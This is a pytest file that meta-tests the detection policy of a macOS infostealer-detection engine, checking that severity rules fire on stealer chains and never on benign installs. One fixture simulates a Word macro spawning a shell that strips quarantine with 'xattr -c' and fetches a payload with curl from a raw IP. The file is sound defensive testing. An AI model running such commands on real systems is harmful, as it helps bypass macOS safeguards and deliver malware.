"""One meta-test over every behaviour and severity rule in the default policy (Elastic detection-rules style).

Every behaviour carries its own examples (positive and negative) and they must hold; every severity rule names a
signal the engine computes; every raise rule must fire on at least one stealer chain of the corpus or of the
engine scenarios below, and never on a benign install; the cap must fire on a benign install.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest
from builders import CURL, OSASCRIPT, SH, WORD, Binary, Scenario, at, run
from test_scenarios import amos_dmg_from_chrome

from chainwatch.engine.grading import signal_names
from chainwatch.errors import PolicyError
from chainwatch.events import CodeSignature
from chainwatch.policy import SIGNALS, load_policy
from scripts.score_corpus import score_corpus

POLICY = load_policy()
CORPUS = score_corpus(policy=POLICY)
FIRED_MALICIOUS: Counter[str] = Counter(r for s in CORPUS.scenarios if s.malicious for f in s.findings
                                        for r in f.severity_rules)
FIRED_BENIGN: Counter[str] = Counter(r for s in CORPUS.scenarios if not s.malicious for f in s.findings
                                     for r in f.severity_rules if f.is_alert)


def test_rules_meta_policy_signals_are_the_engines() -> None:
    assert signal_names() == SIGNALS


@pytest.mark.parametrize("behaviour", POLICY.behaviours, ids=lambda b: b.id)
def test_rules_meta_behaviour_examples_hold(behaviour: object) -> None:
    examples = behaviour.examples  # type: ignore[attr-defined]
    assert any(m for _, _, m in examples) and any(not m for _, _, m in examples), "needs both kinds of example"
    for process, cmdline, expected in examples:
        assert behaviour.matches(process, cmdline) is expected, (process, cmdline)  # type: ignore[attr-defined]


def _revoked_chain() -> set[str]:
    """The AMOS chain whose app's Developer ID certificate was revoked (validation fails: category 0)."""
    s = amos_dmg_from_chrome()
    revoked = CodeSignature(signing_id="com.cleanmymac.installer", team_id="Z7R4XSDQ36", platform_binary=False,
                            validation_category=0, signed=True, trusted=False)
    events = []
    for original in s.events:
        target = getattr(original, "target", None)
        if target is not None and target.pid == 2718 and "CleanMyMac" in (target.executable or ""):
            events.append(replace(original, target=replace(target, signature=revoked)))  # type: ignore[call-arg]
        else:
            events.append(original)
    return {r for f in run(events) for r in f.severity_rules}


def _quarantine_stripped_chain() -> set[str]:
    """Word's macro downloads an app bundle with curl and strips its quarantine before opening it."""
    s = Scenario(origin="xattr")
    word = s.launch(at(0), 701, WORD)
    s.write(at(10), word, "/Users/alice/Library/Containers/com.microsoft.Word/Data/~$a.sh")
    sh = s.spawn(at(20), word, 905, SH, ["sh", "-c", "xattr -c /tmp/a.app; curl -s http://203.0.113.9/x"])
    s.spawn(at(21), sh, 906, Binary("/usr/bin/xattr", CodeSignature(signing_id="com.apple.xattr",
                                                                     platform_binary=True, signed=True)),
            ["xattr", "-c", "/tmp/a.app"])
    curl = s.spawn(at(22), sh, 907, CURL, ["curl", "-s", "http://203.0.113.9/x"])
    s.connect(at(23), curl, "203.0.113.9", 80)
    return {r for f in run(s.events) for r in f.severity_rules}


EXTRA = {"revoked-signature": _revoked_chain, "quarantine-removal": _quarantine_stripped_chain}


@pytest.mark.parametrize("rule", POLICY.severity.raises, ids=lambda r: r.id)
def test_rules_meta_every_raise_rule_fires_on_a_stealer_and_no_benign_alert(rule: object) -> None:
    ident = rule.id  # type: ignore[attr-defined]
    fired = FIRED_MALICIOUS[ident] > 0 or (ident in EXTRA and ident in EXTRA[ident]())
    assert fired, f"raise rule {ident} fires on no stealer chain"
    assert FIRED_BENIGN[ident] == 0


def test_rules_meta_cap_fires_on_a_benign_install() -> None:
    for rule in POLICY.severity.caps:
        assert any(rule.id in f.severity_rules for s in CORPUS.scenarios if not s.malicious for f in s.findings)


def test_rules_meta_unknown_signal_error_names_line(tmp_path: Path) -> None:
    text = Path(POLICY.source).read_text(encoding="utf-8").replace("signal: raw_ip_egress", "signal: raw_ip")
    path = tmp_path / "p.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PolicyError) as caught:
        load_policy(path)
    assert "unknown signal 'raw_ip'" in caught.value.reason
    assert caught.value.line == next(i for i, line in enumerate(text.splitlines(), 1) if "signal: raw_ip," in line)


def test_rules_meta_osascript_example_uses_policy_interpreter() -> None:
    # Behaviours match by basename; the example processes are the binaries the interpreters list names.
    assert OSASCRIPT.path.endswith("/osascript")
